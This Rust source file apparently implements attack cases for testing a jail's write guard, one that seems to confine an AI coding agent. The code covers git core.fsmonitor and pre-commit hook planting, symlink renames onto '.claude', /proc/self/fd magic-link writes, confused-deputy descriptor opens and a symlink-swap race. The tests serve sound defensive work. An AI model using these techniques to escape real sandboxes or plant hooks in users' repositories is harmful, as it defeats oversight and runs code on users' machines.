//! Family B attacks on what the user's own tools run after the jail exits,
//! aimed at the guard (pid 1 decides every write-like call): an implicit
//! git directory made next to a corrupted `.git`, links that become
//! `.claude`, writes through `/proc/self/fd` magic links, pid 1 tricked into
//! opening its own descriptors, and a racing symlink swap.
//!
//! Every verb reports `succeeded` only when the thing the host would later
//! run or read is in place; what the host then does with it (the user's
//! own `git status`) is checked by the test.

use crate::fs::{PERSIST_MARK, write_file};
use crate::report::{Outcome, WRITE_DENIED, io_errno};
use nix::errno::Errno;
use nix::fcntl::{AtFlags, OFlag, open};
use nix::sys::stat::{Mode, fstat};
use std::collections::HashSet;
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::symlink;
use std::path::Path;

/// The steps of a multi-step attack and how each ended.
struct Steps {
    done: Vec<String>,
    refused: Vec<(String, Errno)>,
}

impl Steps {
    fn new() -> Self {
        Steps {
            done: Vec::new(),
            refused: Vec::new(),
        }
    }

    /// Record a step; every step is tried, whatever the ones before did.
    fn step(&mut self, name: &str, res: std::io::Result<()>) {
        match res {
            Ok(()) => self.done.push(name.to_owned()),
            Err(e) => self.refused.push((name.to_owned(), io_errno(&e))),
        }
    }

    /// Succeeded when every step was done; otherwise judged by the first
    /// refusal, the others listed.
    fn verdict(self, attack: &str, what: &str) -> Outcome {
        let done = self.done.join(", ");
        let Some((step, e)) = self.refused.first() else {
            return Outcome::succeeded(attack, format!("{what}: {done}"));
        };
        let refused: Vec<String> = self
            .refused
            .iter()
            .map(|(s, e)| format!("{s} {e}"))
            .collect();
        let step = format!("{step} (refused: {}; done: {done})", refused.join(", "));
        Outcome::failed(attack, &step, *e, WRITE_DENIED)
    }
}

/// `implicit-git-dir ORDER HEAD DIR MARKER`: corrupt the repository's
/// `HEAD` so git looks further, then make DIR a git directory of its own
/// (`HEAD`, `objects/`, `refs/`, and a `config` with `core.worktree = .`
/// and `core.fsmonitor` running `touch MARKER`). ORDER is `head-first` or
/// `head-last` (the completing marker differs). Succeeds when all four are
/// in place: the user's next `git status` in DIR runs the command.
pub fn implicit_git_dir(attack: &str, order: &str, head: &str, dir: &str, marker: &str) -> Outcome {
    if let Err(e) = fs::write(head, "garbage\n") {
        return Outcome::unexpected(attack, Some(io_errno(&e)), "corrupt .git/HEAD (git data)");
    }
    if let Err(e) = fs::create_dir_all(dir) {
        return Outcome::unexpected(attack, Some(io_errno(&e)), "mkdir -p DIR");
    }
    let config = format!(
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch {marker}\"\n"
    );
    let d = Path::new(dir);
    let head_step = |s: &mut Steps| {
        s.step("HEAD", fs::write(d.join("HEAD"), "ref: refs/heads/main\n"));
    };
    let mut s = Steps::new();
    if order == "head-first" {
        head_step(&mut s);
    }
    s.step("objects/", fs::create_dir(d.join("objects")));
    s.step("refs/", fs::create_dir(d.join("refs")));
    s.step("config", fs::write(d.join("config"), config));
    if order != "head-first" {
        head_step(&mut s);
    }
    s.verdict(attack, "git directory made")
}

/// `symlink-rename TARGET TMP DST`: plant `TMP -> TARGET`, then rename it
/// onto DST (`ln -s ../.evil t && mv t .claude`).
pub fn symlink_rename(attack: &str, target: &str, tmp: &str, dst: &str) -> Outcome {
    if let Err(e) = symlink(target, tmp) {
        return Outcome::unexpected(attack, Some(io_errno(&e)), "plant the symlink");
    }
    match fs::rename(tmp, dst) {
        Ok(()) => is_link(attack, dst, "symlink renamed onto the protected name"),
        Err(e) => Outcome::failed(attack, "rename", io_errno(&e), WRITE_DENIED),
    }
}

/// `link-symlink TARGET TMP DST`: plant `TMP -> TARGET`, then give the link
/// itself a second name DST with `link()` (no `AT_SYMLINK_FOLLOW`).
pub fn link_symlink(attack: &str, target: &str, tmp: &str, dst: &str) -> Outcome {
    if let Err(e) = symlink(target, tmp) {
        return Outcome::unexpected(attack, Some(io_errno(&e)), "plant the symlink");
    }
    let res = nix::unistd::linkat(
        nix::fcntl::AT_FDCWD,
        tmp,
        nix::fcntl::AT_FDCWD,
        dst,
        AtFlags::empty(),
    );
    match res {
        Ok(()) => is_link(attack, dst, "hard link of the symlink made"),
        Err(e) => Outcome::failed(attack, "link", e, WRITE_DENIED),
    }
}

fn is_link(attack: &str, path: &str, what: &str) -> Outcome {
    match fs::symlink_metadata(path) {
        Ok(m) if m.file_type().is_symlink() => Outcome::succeeded(attack, what),
        _ => Outcome::unexpected(attack, None, format!("{what}, but {path} is not a link")),
    }
}

/// `opath-reopen PATH`: open PATH `O_PATH` (allowed for anything readable),
/// then open `/proc/self/fd/N` for appending: a magic link must not be a
/// way around the decision on PATH.
pub fn opath_reopen(attack: &str, path: &str) -> Outcome {
    let fd = match open(path, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) {
        Ok(fd) => fd,
        Err(e) => return Outcome::unexpected(attack, Some(e), "open O_PATH"),
    };
    let magic = format!("/proc/self/fd/{}", fd.as_raw_fd());
    write_file(attack, "append", &magic)
}

/// `opath-dir-create DIR NAME`: open DIR `O_PATH`, then create
/// `/proc/self/fd/N/NAME` through the magic link.
pub fn opath_dir_create(attack: &str, dir: &str, name: &str) -> Outcome {
    let flags = OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC;
    let fd = match open(dir, flags, Mode::empty()) {
        Ok(fd) => fd,
        Err(e) => return Outcome::unexpected(attack, Some(e), "open DIR O_PATH"),
    };
    let magic = format!("/proc/self/fd/{}/{name}", fd.as_raw_fd());
    write_file(attack, "create", &magic)
}

/// The objects behind the caller's own descriptors (device, inode).
fn own_objects() -> HashSet<(u64, u64)> {
    let mut out = HashSet::new();
    for entry in fs::read_dir("/proc/self/fd")
        .into_iter()
        .flatten()
        .flatten()
    {
        if let Ok(m) = fs::metadata(entry.path()) {
            use std::os::unix::fs::MetadataExt;
            out.insert((m.dev(), m.ino()));
        }
    }
    out
}

/// Whether `fd` is a pidfd of a process in the caller's own pid namespace:
/// `pidfd_open` would give the caller the same, so it carries nothing
/// pid 1 had and the caller had not.
fn jailed_pidfd(fd: &OwnedFd) -> bool {
    let link = fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()));
    if !link.is_ok_and(|l| l.as_os_str() == "anon_inode:[pidfd]") {
        return false;
    }
    let info = fs::read_to_string(format!("/proc/self/fdinfo/{}", fd.as_raw_fd()));
    info.ok().is_some_and(|t| {
        t.lines()
            .find_map(|l| l.strip_prefix("Pid:"))
            .and_then(|v| v.trim().parse::<i64>().ok())
            .is_some_and(|p| p > 0)
    })
}

/// What one open gave the caller, when it is not its own: a description.
fn foreign(fd: &OwnedFd, own: &HashSet<(u64, u64)>) -> Option<String> {
    let st = fstat(fd).ok()?;
    let link = fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()))
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    // Its own /proc files the caller may open itself.
    let mine = link.starts_with(&format!("/proc/{}/", std::process::id()));
    if mine || own.contains(&(st.st_dev, st.st_ino)) || jailed_pidfd(fd) {
        return None;
    }
    Some(format!("mode {:o} {link}", st.st_mode))
}

/// `deputy-open HOW TEMPLATES`: for every template (space-separated) and N
/// in 0..64, open the template with `{n}` replaced by N for writing, either
/// directly with `O_CREAT` (`direct`) or through a symlink planted in the
/// working directory (`via-link`: pid 1 follows it, and a `/proc/self`
/// there is pid 1's own). A helper process made a guarded call first, so
/// pid 1 holds descriptors of another process (its memory above all).
/// Succeeds when any open hands the caller an object that is not its own
/// (a pidfd of a jailed process excepted): pid 1 opened its own
/// descriptors for the command.
pub fn deputy_open(attack: &str, how: &str, templates: &str) -> Outcome {
    let own = own_objects();
    let mut helper = match guarded_helper() {
        Ok(c) => c,
        Err(e) => return Outcome::unexpected(attack, Some(io_errno(&e)), "start the helper"),
    };
    let mut hits = Vec::new();
    let mut first_err = None;
    let mut reached_own = 0;
    let targets = templates
        .split_whitespace()
        .flat_map(|t| (0..64).map(move |n| t.replace("{n}", &n.to_string())));
    for (i, target) in targets.enumerate() {
        let opened = match how {
            "via-link" => open_via_link(&target, i),
            _ => {
                let flags = OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_CLOEXEC;
                open(target.as_str(), flags, Mode::from_bits_truncate(0o600))
            }
        };
        match opened.map(|fd| foreign(&fd, &own)) {
            Ok(Some(d)) => hits.push(format!("{target}: {d}")),
            Ok(None) => reached_own += 1,
            Err(e) => {
                first_err.get_or_insert(e);
            }
        }
    }
    let _ = helper.kill();
    let _ = helper.wait();
    deputy_verdict(attack, hits, reached_own, first_err)
}

/// A second process of the command that made a guarded call and stays
/// alive: pid 1 then holds its descriptors (its memory, its pidfd), the
/// objects worth stealing through pid 1.
fn guarded_helper() -> std::io::Result<std::process::Child> {
    let done = ".oaj-deputy-helper";
    let _ = fs::remove_file(done);
    let mut child = std::process::Command::new("/proc/self/exe")
        .args(["guarded-sleeper", done])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .spawn()?;
    let start = std::time::Instant::now();
    while !Path::new(done).exists() {
        if start.elapsed() > std::time::Duration::from_secs(5) {
            let _ = child.kill();
            return Err(std::io::Error::other("the helper made no call in 5 s"));
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    Ok(child)
}

/// `guarded-sleeper FILE`: create FILE (a call pid 1 performs), then sleep
/// until killed.
pub fn guarded_sleeper(file: &str) -> i32 {
    let _ = fs::write(file, "");
    std::thread::sleep(std::time::Duration::from_secs(60));
    0
}

/// Open `target` for writing through a symlink to it in the cwd.
fn open_via_link(target: &str, i: usize) -> nix::Result<OwnedFd> {
    let link = format!(".oaj-deputy-{i}");
    let _ = fs::remove_file(&link);
    symlink(target, &link).map_err(|e| io_errno(&e))?;
    let r = open(
        link.as_str(),
        OFlag::O_WRONLY | OFlag::O_CLOEXEC,
        Mode::empty(),
    );
    let _ = fs::remove_file(&link);
    r
}

fn deputy_verdict(
    attack: &str,
    hits: Vec<String>,
    own: usize,
    first_err: Option<Errno>,
) -> Outcome {
    if !hits.is_empty() {
        return Outcome::succeeded(
            attack,
            format!("pid 1's objects opened: {}", hits.join("; ")),
        );
    }
    let mut allowed = WRITE_DENIED.to_vec();
    // Descriptors that do not exist, or cannot be reopened (sockets,
    // event and notification descriptors), fail by themselves.
    allowed.extend_from_slice(&[Errno::ENXIO, Errno::EBADF, Errno::EINVAL]);
    match first_err {
        Some(e) => {
            let step = format!(
                "opens refused or failed, none foreign ({own} reached the caller's own objects)"
            );
            Outcome::failed(attack, &step, e, &allowed)
        }
        None => Outcome::blocked_plain(
            attack,
            format!("only the caller's own objects were reached ({own})"),
        ),
    }
}

/// How long the race may run at most (pid 1 serves both threads' calls
/// one at a time; a slow configuration must still end well before the
/// lab's timeout).
const RACE_LIMIT: std::time::Duration = std::time::Duration::from_secs(5);

/// `race-link-hook SAFE HOOKS LINK ITERS`: one thread swaps the symlink
/// LINK between SAFE and HOOKS (a git directory's `hooks/`) as fast as it
/// can while this one opens `LINK/pre-commit` for writing ITERS times (see
/// [`write_through`]). Succeeds when `HOOKS/pre-commit` exists
/// afterwards; the race must also have landed writes in SAFE, or it
/// proved nothing (`unexpected`).
pub fn race_link_hook(attack: &str, safe: &str, hooks: &str, link: &str, iters: &str) -> Outcome {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    let Ok(iters) = iters.parse::<u32>() else {
        return Outcome::unexpected(attack, None, format!("bad count {iters}"));
    };
    let stop = Arc::new(AtomicBool::new(false));
    let swapper = {
        let (stop, targets, link) = (
            stop.clone(),
            [safe.to_owned(), hooks.to_owned()],
            link.to_owned(),
        );
        std::thread::spawn(move || swap_until(&stop, &targets, &link))
    };
    // The swapper must be running before the writes start.
    let start = std::time::Instant::now();
    while fs::symlink_metadata(link).is_err() && start.elapsed() < RACE_LIMIT {
        std::thread::yield_now();
    }
    let (landed, refused) = write_through(&format!("{link}/pre-commit"), iters);
    stop.store(true, Ordering::Relaxed);
    let _ = swapper.join();
    let hook = Path::new(hooks).join("pre-commit");
    let in_safe = Path::new(safe).join("pre-commit").exists();
    let detail = format!("{landed} writes accepted, {refused} refused");
    match (hook.exists(), in_safe) {
        (true, _) => Outcome::succeeded(attack, format!("hook written: {detail}")),
        (false, true) => {
            Outcome::blocked_plain(attack, format!("no hook, safe dir written: {detail}"))
        }
        (false, false) => {
            Outcome::unexpected(attack, None, format!("the race never wrote: {detail}"))
        }
    }
}

/// Open `target` for writing at least `iters` times and for at least a
/// second (without the guard both threads run unhindered and the window is
/// narrow), within [`RACE_LIMIT`]: (accepted, refused).
fn write_through(target: &str, iters: u32) -> (u32, u32) {
    let start = std::time::Instant::now();
    let min = std::time::Duration::from_secs(1);
    let (mut landed, mut refused) = (0u32, 0u32);
    let more = |n: u32, t: std::time::Duration| (n < iters || t < min) && t < RACE_LIMIT;
    while more(landed + refused, start.elapsed()) {
        let opened = fs::OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(true)
            .open(target);
        match opened.and_then(|mut f| std::io::Write::write_all(&mut f, PERSIST_MARK)) {
            Ok(()) => landed += 1,
            Err(_) => refused += 1,
        }
    }
    (landed, refused)
}

fn swap_until(stop: &std::sync::atomic::AtomicBool, targets: &[String], link: &str) {
    while !stop.load(std::sync::atomic::Ordering::Relaxed) {
        for t in targets {
            let _ = fs::remove_file(link);
            let _ = symlink(t, link);
        }
    }
}

/// `append-text PATH TEXT`: append TEXT (e.g. a `core.fsmonitor` section)
/// to an existing file.
pub fn append_text(attack: &str, path: &str, text: &str) -> Outcome {
    let opened = fs::OpenOptions::new().append(true).open(path);
    match opened.and_then(|mut f| std::io::Write::write_all(&mut f, text.as_bytes())) {
        Ok(()) => Outcome::succeeded(attack, "append accepted"),
        Err(e) => Outcome::failed(attack, "append", io_errno(&e), WRITE_DENIED),
    }
}
